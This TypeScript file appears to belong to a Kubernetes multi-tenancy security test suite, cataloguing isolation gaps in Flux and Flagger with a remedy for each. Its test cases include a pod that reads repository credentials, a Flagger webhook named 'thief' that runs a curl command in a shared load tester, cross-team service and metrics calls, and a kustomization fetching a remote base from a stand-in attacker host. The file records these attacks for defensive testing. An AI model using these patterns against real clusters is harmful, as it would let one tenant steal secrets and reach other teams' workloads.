import type { Attempt } from './attack';
import { hasFlaggerAsk } from './by-flagger';
import { pushes, pushesAs } from './by-flux';
import type { ControllerWorld } from './controller-world';
import { containerWith, manifest } from './manifest';
import { filesOf, kustomizationOf } from './team-repository';
import type { TenancyWorld } from './tenancy-world';
import { runs } from './workload';

/** What nothing stops yet. */
export interface Gap<W extends TenancyWorld = TenancyWorld> extends Attempt<W> {
  readonly remedy: string;
}

const gap = <W extends TenancyWorld>(remedy: string, attempt: Attempt<W>): Gap<W> => ({ ...attempt, remedy });

/** Gaps that the API server and its controllers leave. */
export const gaps: readonly Gap[] = [
  gap(
    'a deploy key for each team, in a home namespace without apps',
    runs(
      'a pod that reads the credentials of the repository',
      containerWith({ envFrom: [{ secretRef: { name: 'credentials' } }] }),
    ),
  ),
];

const LOAD_TESTER = 'http://flagger-loadtester.flagger-system/';
const hooked = (url: string, metadata: object): object => ({
  webhooks: [{ name: 'thief', type: 'event', url, metadata }],
});
const hosts = "an admission policy with the hosts that the workspace's Canaries, templates and alerts may name";

/** Gaps that Flux and Flagger leave. */
export const controllerGaps: readonly Gap<ControllerWorld>[] = [
  gap(
    'a load tester for each team: the network policies of its workspace then shut the shared one out. Here, packets are not judged, and the shared one serves all',
    hasFlaggerAsk(
      'run a command in the load tester that all teams share',
      hooked(LOAD_TESTER, { type: 'bash', cmd: 'curl http://player.media/' }),
      /^flagger-loadtester.*curl http:\/\/player\.media/,
    ),
  ),
  gap(
    hosts,
    hasFlaggerAsk(
      "call another team's Service, past its network policies",
      hooked('http://player.media/', {}),
      /^player/,
    ),
  ),
  gap(
    `${hosts}; a Prometheus for each team, or a proxy before it that adds the namespace`,
    hasFlaggerAsk(
      "ask another team's Service for metrics",
      { metrics: [{ name: 'own', interval: '1m', templateRef: { name: 'reaches-over' } }] },
      /^player\.media \/api\/v1\/query/,
    ),
  ),
  gap(
    "network policies in place of Flux's allow-egress, which would win over a stricter one, with the API server's address: its --no-remote-bases stops repositories only. The rights stay those of the team",
    pushes('a file that takes more from a web server of its own', {
      'kustomization.yaml': kustomizationOf(['base.yaml', 'http://thief.example.com/more.yaml']),
    }),
  ),
  gap(
    "the Git host: CODEOWNERS and protected branches, or a repository for each team (TeamWorkspace's source)",
    pushesAs('media', "an edit of another team's part of dist/", filesOf([manifest('v1 ConfigMap', 'media/edited')])),
  ),
];

/** What only a part of a cluster could judge that is not here. */
export const NOT_JUDGED = [
  'an HTTPRoute whose parentRefs or backendRefs are in another namespace: a gateway asks the Gateway and for a ReferenceGrant',
  'annotations of an Ingress that configure ingress-nginx: its own webhook, with allowSnippetAnnotations off, refuses the risky ones',
  "a service account with another team's cloud role: the trust policy of the role names one account",
  'packets: NetworkPolicies are not enforced here',
];
